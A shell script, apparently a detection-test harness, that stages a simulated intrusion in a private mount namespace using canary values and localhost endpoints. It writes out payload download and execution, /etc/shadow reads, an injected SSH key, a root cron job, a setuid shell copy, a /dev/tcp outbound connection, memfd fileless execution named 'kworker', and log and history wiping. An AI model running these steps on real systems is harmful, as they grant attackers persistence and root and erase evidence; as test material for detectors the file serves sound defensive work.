#!/bin/sh
# A small intrusion, for real: download, make executable, run, persist, raise privileges, connect out, run from memory,
# cover tracks. Run it in a mount namespace of its own, where what it changes is not the machine's:
#
#   unshare --mount --uts sh intrusion.sh WORKDIR WEB_PORT SINK_PORT
#
# The canaries come in the environment: CANARY_ARG, CANARY_ENV, CANARY_FILE, CANARY_HOST, and the user that runs a part, CANARY_USER.
set -eu
work=$1
web=$2
sink=$3

mount -t tmpfs tmpfs /root
mount -t tmpfs tmpfs /etc/cron.d
mount -t tmpfs tmpfs /var/log
mkdir -p /root/.ssh
hostname "$CANARY_HOST" 2>/dev/null || true
export CANARY_ENV
cd "$work"

# Download, make executable, run from /tmp.
curl -s -o "/tmp/x-$CANARY_FILE" "http://127.0.0.1:$web/payload?token=$CANARY_ARG"
chmod +x "/tmp/x-$CANARY_FILE"
"/tmp/x-$CANARY_FILE" --password="$CANARY_ARG" -p"$CANARY_ARG" "$CANARY_ARG" || true

# The same hand as another user, whose name is nobody's business.
setpriv --reuid="$CANARY_USER" --regid=nogroup --clear-groups -- sh -c "id; true MYSQL_PWD=$CANARY_ARG; cat /etc/shadow" >/dev/null 2>&1 || true

# Persistence.
echo "ssh-ed25519 AAAA$CANARY_ARG attacker" >>/root/.ssh/authorized_keys
echo "* * * * * root /tmp/x-$CANARY_FILE" >"/etc/cron.d/updates"

# A setuid copy of the shell.
cp /bin/dash "/tmp/.sh-$CANARY_FILE"
chmod u+s "/tmp/.sh-$CANARY_FILE"

# Out, by a shell's own socket.
bash -c "exec 3<>/dev/tcp/127.0.0.1/$sink; echo $CANARY_ARG >&3" || true

# A program that never was a file.
python3 -c '
import os
fd = os.memfd_create("kworker")
os.write(fd, open("/bin/true", "rb").read())
os.execve(fd, ["kworker", os.environ["CANARY_ARG"]], os.environ)
'

# Traces.
: >/var/log/auth.log
rm -f /var/log/auth.log "/tmp/x-$CANARY_FILE" "/tmp/.sh-$CANARY_FILE"
touch /root/.bash_history
rm -f /root/.bash_history
